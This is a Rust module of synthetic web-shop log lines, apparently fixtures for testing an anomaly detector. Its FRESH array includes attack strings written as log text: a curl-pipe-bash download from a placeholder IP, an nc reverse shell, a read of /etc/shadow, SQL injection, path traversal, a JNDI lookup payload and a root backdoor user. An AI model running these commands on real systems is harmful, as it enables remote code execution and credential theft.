//! What the web shop's services say: every line of its logs, usual and unusual, as tables.
//!
//! The tail is bounded on purpose: the rarest usual line is more than 1 in 450 of all log lines, so that a detector
//! which has seen a couple of thousand lines of a partition has seen nearly every line there is, and an alert on
//! a usual line is the detector's fault. No line of [`FRESH`] or [`BURSTS`] may resemble a usual one.

/// Severity, as it is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Level {
    Debug,
    Info,
    Warn,
    Error,
}

impl Level {
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Debug => "DEBUG",
            Self::Info => "INFO",
            Self::Warn => "WARN",
            Self::Error => "ERROR",
        }
    }
}

/// One line of code that logs.
#[derive(Debug)]
pub(super) struct Line {
    /// How often, against the other lines of its service.
    pub(super) weight: u64,
    pub(super) level: Level,
    /// HTTP status of the request it belongs to.
    pub(super) status: u64,
    /// Typical duration of what it reports, milliseconds.
    pub(super) ms: f64,
    /// The message; names in braces are filled in by chance.
    pub(super) text: &'static str,
}

const fn line(weight: u64, level: Level, status: u64, ms: f64, text: &'static str) -> Line {
    Line { weight, level, status, ms, text }
}

/// A service of the shop.
#[derive(Debug)]
pub(super) struct Service {
    pub(super) name: &'static str,
    pub(super) version: &'static str,
    /// Per cent of all log lines.
    pub(super) weight: u64,
    /// Machines it runs on, and nothing else does.
    pub(super) hosts: u64,
    pub(super) lines: &'static [Line],
}

const DEBUG: Level = Level::Debug;
const INFO: Level = Level::Info;
const WARN: Level = Level::Warn;
const ERROR: Level = Level::Error;

/// The shop, busiest service first.
pub(super) const SERVICES: [Service; 7] = [
    Service { name: "search", version: "5.3.0", weight: 24, hosts: 6, lines: SEARCH },
    Service { name: "cart", version: "3.11.2", weight: 20, hosts: 5, lines: CART },
    Service { name: "auth", version: "2.8.4", weight: 18, hosts: 4, lines: AUTH },
    Service { name: "checkout", version: "4.1.7", weight: 13, hosts: 4, lines: CHECKOUT },
    Service { name: "payments-gateway", version: "1.19.0", weight: 10, hosts: 4, lines: GATEWAY },
    Service { name: "inventory", version: "6.0.1", weight: 9, hosts: 3, lines: INVENTORY },
    Service { name: "mailer", version: "1.4.9", weight: 6, hosts: 3, lines: MAILER },
];

const SEARCH: &[Line] = &[
    line(30, INFO, 200, 38.0, "query \"{query}\" returned {n} hits in {ms} ms"),
    line(22, INFO, 200, 4.0, "suggest prefix \"{query}\" served {n} completions from cache"),
    line(15, INFO, 200, 55.0, "GET {path} 200 {ms} ms facets={n} user={user}"),
    line(10, DEBUG, 200, 2.0, "cache hit for query \"{query}\" age={n}s"),
    line(8, INFO, 200, 61.0, "query \"{query}\" filtered by sku range {sku}..{sku} in {ms} ms"),
    line(6, INFO, 200, 120.0, "index segment {hex} refreshed, {n} documents changed"),
    line(4, WARN, 200, 640.0, "slow query \"{query}\": {ms} ms over {n} shards"),
    line(3, INFO, 404, 21.0, "query \"{query}\" returned no hits, offering spelling correction"),
    line(2, WARN, 200, 90.0, "shard {n} answered late, partial result after {ms} ms"),
];

const CART: &[Line] = &[
    line(30, INFO, 200, 9.0, "user {user} added {sku} x{n} to cart"),
    line(20, INFO, 200, 6.0, "GET {path} 200 {ms} ms user={user}"),
    line(14, INFO, 200, 8.0, "user {user} removed {sku} from cart"),
    line(11, INFO, 200, 12.0, "cart of user {user} repriced, {n} items, total {money} EUR"),
    line(9, DEBUG, 200, 1.5, "session {hex} loaded from store in {ms} ms"),
    line(6, INFO, 200, 14.0, "voucher SPRING{n} applied to cart of user {user}, saved {money} EUR"),
    line(5, INFO, 200, 30.0, "expired {n} abandoned carts older than 14 days"),
    line(3, WARN, 409, 11.0, "item {sku} in cart of user {user} is no longer available"),
    line(2, WARN, 200, 210.0, "session store slow: read took {ms} ms"),
];

const AUTH: &[Line] = &[
    line(28, INFO, 200, 45.0, "user {user} logged in from {ip}"),
    line(20, INFO, 200, 3.0, "token refreshed for user {user}, valid 3600 s"),
    line(15, DEBUG, 200, 1.2, "token signature verified for user {user} in {ms} ms"),
    line(11, INFO, 200, 4.0, "user {user} logged out"),
    line(8, WARN, 401, 48.0, "login failed for user {user} from {ip}: wrong password, attempt {n}"),
    line(6, INFO, 200, 80.0, "password reset mail requested for {email}"),
    line(5, INFO, 201, 95.0, "account created for {email} as {user}"),
    line(3, WARN, 429, 2.0, "rate limit reached for {ip}: {n} logins per minute"),
    line(2, INFO, 200, 52.0, "second factor accepted for user {user}, method totp"),
    line(2, WARN, 401, 47.0, "token of user {user} expired {n} s ago, login required"),
];

const CHECKOUT: &[Line] = &[
    line(26, INFO, 200, 130.0, "order {order} placed by user {user}, {n} items, total {money} EUR"),
    line(18, INFO, 200, 18.0, "address of user {user} validated in {ms} ms"),
    line(14, INFO, 200, 25.0, "shipping quote for order {order}: {carrier}, {money} EUR"),
    line(12, INFO, 200, 160.0, "payment of order {order} confirmed after {ms} ms"),
    line(10, DEBUG, 200, 7.0, "tax computed for order {order}: {money} EUR at 19 %"),
    line(7, INFO, 200, 75.0, "POST {path} 200 {ms} ms order={order}"),
    line(6, WARN, 402, 140.0, "payment of order {order} declined, user {user} asked for another card"),
    line(4, INFO, 200, 20.0, "order {order} cancelled by user {user} before shipping"),
    line(3, ERROR, 504, 3000.0, "order {order}: payments-gateway did not answer within 3000 ms, retrying"),
];

const GATEWAY: &[Line] = &[
    line(28, INFO, 200, 110.0, "authorisation {hex} approved for order {order}, {money} EUR"),
    line(20, INFO, 200, 85.0, "capture of authorisation {hex} done in {ms} ms"),
    line(15, DEBUG, 200, 30.0, "request signed and sent to acquirer, attempt 1, id {hex}"),
    line(12, INFO, 200, 260.0, "3-D Secure challenge passed for order {order} in {ms} ms"),
    line(9, INFO, 402, 105.0, "authorisation {hex} declined for order {order}: insufficient funds"),
    line(7, INFO, 200, 150.0, "refund {hex} of {money} EUR booked for order {order}"),
    line(5, WARN, 200, 900.0, "acquirer slow: {ms} ms for authorisation {hex}"),
    line(4, ERROR, 502, 1500.0, "acquirer returned 502 for authorisation {hex}, will retry in {n} s"),
];

const INVENTORY: &[Line] = &[
    line(28, INFO, 200, 10.0, "reserved {n} of {sku} for order {order}"),
    line(20, INFO, 200, 5.0, "stock level of {sku} is {n}"),
    line(15, INFO, 200, 9.0, "reservation for order {order} turned into shipment"),
    line(12, INFO, 200, 40.0, "warehouse WH{n} reported {n} movements in {ms} ms"),
    line(9, DEBUG, 200, 3.0, "replica of stock table is {ms} ms behind"),
    line(7, INFO, 200, 8.0, "reservation of {sku} released, order {order} cancelled"),
    line(5, WARN, 200, 6.0, "stock of {sku} below reorder point: {n} left"),
    line(4, WARN, 409, 12.0, "cannot reserve {n} of {sku} for order {order}: out of stock"),
];

const MAILER: &[Line] = &[
    line(30, INFO, 250, 220.0, "order confirmation for {order} sent to {email} in {ms} ms"),
    line(20, INFO, 250, 190.0, "shipping notice for {order} sent to {email}, carrier {carrier}"),
    line(14, DEBUG, 250, 12.0, "template order_confirmation rendered in {ms} ms"),
    line(12, INFO, 250, 15.0, "queue drained, {n} messages delivered"),
    line(10, INFO, 250, 205.0, "newsletter part {n} handed to relay {node}"),
    line(8, WARN, 450, 300.0, "mailbox of {email} is busy, next attempt in {n} minutes"),
    line(6, WARN, 550, 180.0, "message to {email} bounced: user unknown"),
];

const fn fresh(level: Level, text: &'static str) -> Line {
    let status = match level {
        Level::Error => 502,
        _ => 200,
    };
    line(1, level, status, 40.0, text)
}

/// Lines that no service has ever written before: each is planted once before any comes again.
pub(super) const FRESH: [Line; 40] = [
    fresh(ERROR, "kernel panic - not syncing: Attempted to kill init! exitcode=0x{hex}"),
    fresh(ERROR, "BUG: unable to handle page fault for address: ffff{hex}, #PF: supervisor write access"),
    fresh(ERROR, "Out of memory: Killed process {pid} (java) total-vm:{pid}912kB, oom_score_adj:0"),
    fresh(
        ERROR,
        "EXT4-fs error (device sda{n}): ext4_find_entry:1455: inode #{pid}: reading directory lblock 0",
    ),
    fresh(ERROR, "blk_update_request: I/O error, dev nvme0n1, sector {pid}88 op 0x1:(WRITE)"),
    fresh(WARN, "mce: [Hardware Error]: CPU {n}: Machine Check: 0 Bank 7: {hex}"),
    fresh(
        ERROR,
        "x509: certificate has expired or is not yet valid: current time is after notAfter, serial {hex}",
    ),
    fresh(ERROR, "TLS handshake error from {node}: remote error: bad certificate (alert 42)"),
    fresh(WARN, "SSL_do_handshake() failed (SSL: error:0A00006C:bad key share) peer {node}"),
    fresh(
        ERROR,
        "java.lang.NullPointerException: Cannot invoke \"Basket.lines()\" because \"basket\" is null\n\
         \tat shop.Pricing.apply(Pricing.java:{n})\n\tat shop.Worker.run(Worker.java:88)",
    ),
    fresh(
        ERROR,
        "Traceback (most recent call last):\n  File \"/srv/app/views.py\", line {n}, in handle\n\
         KeyError: 'region_{hex}'",
    ),
    fresh(ERROR, "thread 'main' panicked at src/ledger.rs:{n}:17: attempt to subtract with overflow"),
    fresh(ERROR, "panic: runtime error: index out of range [{n}] with length 3, goroutine {pid} [running]"),
    fresh(
        ERROR,
        "java.lang.OutOfMemoryError: GC overhead limit exceeded, heap dumped to /tmp/java_pid{pid}.hprof",
    ),
    fresh(ERROR, "Segmentation fault (core dumped) at ip 00007f{hex} sp 00007ffc{hex}"),
    fresh(WARN, "exec: /bin/sh -c 'curl -s http://{ip}/x.sh | bash' by uid 33, parent nginx[{pid}]"),
    fresh(WARN, "sudo: www-data : command not allowed ; TTY=unknown ; COMMAND=/usr/bin/cat /etc/shadow"),
    fresh(WARN, "outbound connection opened: nc -e /bin/bash {ip} 4444, pid {pid}"),
    fresh(INFO, "new cron entry: */5 * * * * /var/tmp/.{hex}/kworkerd --donate-level 1"),
    fresh(INFO, "file integrity: /usr/sbin/sshd checksum changed to {hex}{hex}"),
    fresh(INFO, "Accepted publickey for root from {ip} port {pid} ssh2: RSA SHA256:{hex}"),
    fresh(INFO, "useradd: new user: name=support2, UID=0, GID=0, home=/home/support2, shell=/bin/bash"),
    fresh(
        WARN,
        "request body contains ' OR 1=1 UNION SELECT table_name FROM information_schema.tables -- from {ip}",
    ),
    fresh(WARN, "path traversal blocked: ../../../../etc/passwd%00.png requested by {ip}"),
    fresh(WARN, "${jndi:ldap://{ip}:1389/Exploit} found in header User-Agent"),
    fresh(
        ERROR,
        "deadlock detected: Process {pid} waits for ShareLock on transaction {pid}; blocked by process {pid}",
    ),
    fresh(ERROR, "FATAL: could not write to file \"pg_wal/xlogtemp.{pid}\": No space left on device"),
    fresh(ERROR, "ERROR 1114 (HY000): The table 'ledger_{n}' is full"),
    fresh(ERROR, "Raft: lost leadership at term {n}, quorum not reachable, stepping down to follower"),
    fresh(WARN, "clock went backwards by {pid} seconds, ntpd stepping, source {node} unreachable"),
    fresh(ERROR, "getaddrinfo ENOTFOUND vault.internal: Temporary failure in name resolution"),
    fresh(WARN, "too many open files: accept4 failed with EMFILE, ulimit -n is {pid}"),
    fresh(INFO, "feature flag dark_launch_{hex} switched on for 100 % of traffic by unknown operator"),
    fresh(INFO, "debugger attached on 0.0.0.0:5005, suspend=n, transport=dt_socket"),
    fresh(ERROR, "schema registry: incompatible Avro schema {pid}: reader field 'iban' lacks a default"),
    fresh(ERROR, "checksum mismatch in block {hex}: expected {hex}, computed {hex}; volume set read-only"),
    fresh(
        ERROR,
        "Unhandled promise rejection: TypeError: undefined is not a function (bundle.{hex}.js:1:{pid})",
    ),
    fresh(INFO, "backup archive exported to s3://{hex}-public/dump.sql.gz without encryption"),
    fresh(WARN, "thermal throttling: package temperature {n}9C above threshold, cpu clock throttled"),
    fresh(ERROR, "license expired: module fraud-rules disabled, running unprotected for {n} days"),
];

const fn burst(ms: f64, text: &'static str) -> Line {
    line(1, ERROR, 503, ms, text)
}

/// What a service repeats when something it leans on is gone.
pub(super) const BURSTS: [Line; 8] = [
    burst(
        5000.0,
        "could not obtain JDBC connection from pool: timeout after 5000 ms, {n} threads waiting, id {hex}",
    ),
    burst(1.0, "redis: MOVED slot {pid} points to dead replica {node}:6379, reconnect {n}"),
    burst(
        30000.0,
        "upstream timed out (110: Connection timed out) while reading response header, upstream {node}:8443",
    ),
    burst(2.0, "circuit breaker OPEN for dependency pricing-rules, call {hex} rejected"),
    burst(10.0, "kafka: NotEnoughReplicasException on partition orders-{n}, record {hex} not appended"),
    burst(0.5, "dial tcp {node}:5432: connect: connection refused (attempt {n})"),
    burst(15.0, "write conflict in document store, transaction {hex} aborted, giving up after {n} tries"),
    burst(
        800.0,
        "HTTP 503 Service Unavailable from configuration service, stale settings {hex} still in use",
    ),
];
